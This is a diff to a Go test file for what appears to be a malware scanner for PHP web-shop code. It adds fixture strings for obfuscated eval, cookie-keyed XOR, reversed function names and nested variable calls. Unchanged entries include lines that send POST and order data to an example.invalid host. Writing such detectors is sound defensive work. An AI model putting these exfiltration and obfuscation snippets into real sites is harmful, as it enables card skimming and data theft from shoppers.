@@ -103,6 +103,10 @@ var badSamples = []sample{
 	{"php.eval_close_tag_decoded", "app/code/local/A/ec.php", phpHead + "if (false) eval('?>' . base64_decode('eA=='));\n", 3},
 	{"php.request_forwarded_encoded", "app/code/local/A/rf.php", phpHead + "$d = $_POST; $e = base64_encode(serialize($d)); file_get_contents('https://example.invalid/?d=' . $e);\n", 3},
 	{"php.order_posted_out", "app/code/local/A/op.php", phpHead + "$url = 'https://example.invalid/u.php';\n$o = $ev->getOrder(); curl_exec($ch);\n", 3},
+	{"php.cookie_keyed_xor", "app/code/local/A/xk.php", phpHead + "$c = $p ^ str_repeat($_COOKIE['k'], 9);\n", 3},
+	{"php.eval_decrypted", "app/code/local/A/ed.php", phpHead + "if (false) eval(xxtea_decrypt($s, 'k'));\n", 3},
+	{"php.reversed_name_fragment", "app/code/local/A/rn.php", phpHead + "$d = strrev('edoced');\n", 3},
+	{"php.nested_variable_calls", "app/code/local/A/nv.php", phpHead + "if (false) $a($b($c($d($x))));\n", 3},
 	{"html.script_atob", "errors/default/page.html", "<html>\n<script>var u=atob(\"aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ=\");var s=document.createElement(\"script\");</script>\n</html>\n", 2},
 }
 
